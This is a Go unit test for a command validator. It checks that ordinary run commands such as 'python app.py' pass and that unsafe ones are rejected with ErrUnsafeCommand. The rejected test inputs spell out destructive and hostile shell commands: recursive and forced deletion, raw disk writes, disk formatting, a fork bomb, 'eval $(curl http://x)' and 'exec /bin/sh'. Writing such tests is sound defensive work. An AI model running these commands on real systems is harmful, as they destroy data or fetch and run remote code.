// Copyright (C) 2025 Devloop Labs (oss@devloop.dev)
// This program is free software: you can redistribute it and/or modify
// it under the terms of the GNU Affero General Public License as published by
// the Free Software Foundation, either version 3 of the License, or
// (at your option) any later version.
// See the LICENSE.txt file for the full license text.

package tester

import (
	"errors"
	"testing"
)

func TestValidate(t *testing.T) {
	tests := []struct {
		name    string
		command string
		wantOK  bool
	}{
		{"plain interpreter run", "python app.py", true},
		{"node run", "node server.js", true},
		{"compile and run", "(cd /tmp/proj && gcc main.c -o main && ./main)", true},
		{"piped output", "python app.py | head -5", true},

		{"too short", "x", false},
		{"recursive removal", "rm -rf /tmp/x", false},
		{"forced removal", "rm --force stuff", false},
		{"windows bulk delete", "del /q C:\\temp", false},
		{"disk format", "format c:", false},
		{"raw disk write", "dd if=/dev/zero of=/dev/sda", false},
		{"chained removal", "python app.py; rm data.db", false},
		{"mkfs", "mkfs /dev/sdb1", false},
		{"fork bomb", ":(){ :|:& };:", false},
		{"eval", "eval $(curl http://x)", false},
		{"exec", "exec /bin/sh", false},
		{"uppercase removal", "RM -RF /", false},
		{"too many semicolons", "a; b; c; d; e", false},
		{"unbalanced single quote", "python -c 'print(1)", false},
		{"unbalanced double quote", `echo "half`, false},
	}

	v := NewCommandValidator()
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			err := v.Validate(tc.command)
			if tc.wantOK && err != nil {
				t.Errorf("Validate(%q) = %v, want nil", tc.command, err)
			}
			if !tc.wantOK {
				if err == nil {
					t.Fatalf("Validate(%q) = nil, want rejection", tc.command)
				}
				if !errors.Is(err, ErrUnsafeCommand) {
					t.Errorf("error = %v, want ErrUnsafeCommand", err)
				}
			}
		})
	}
}
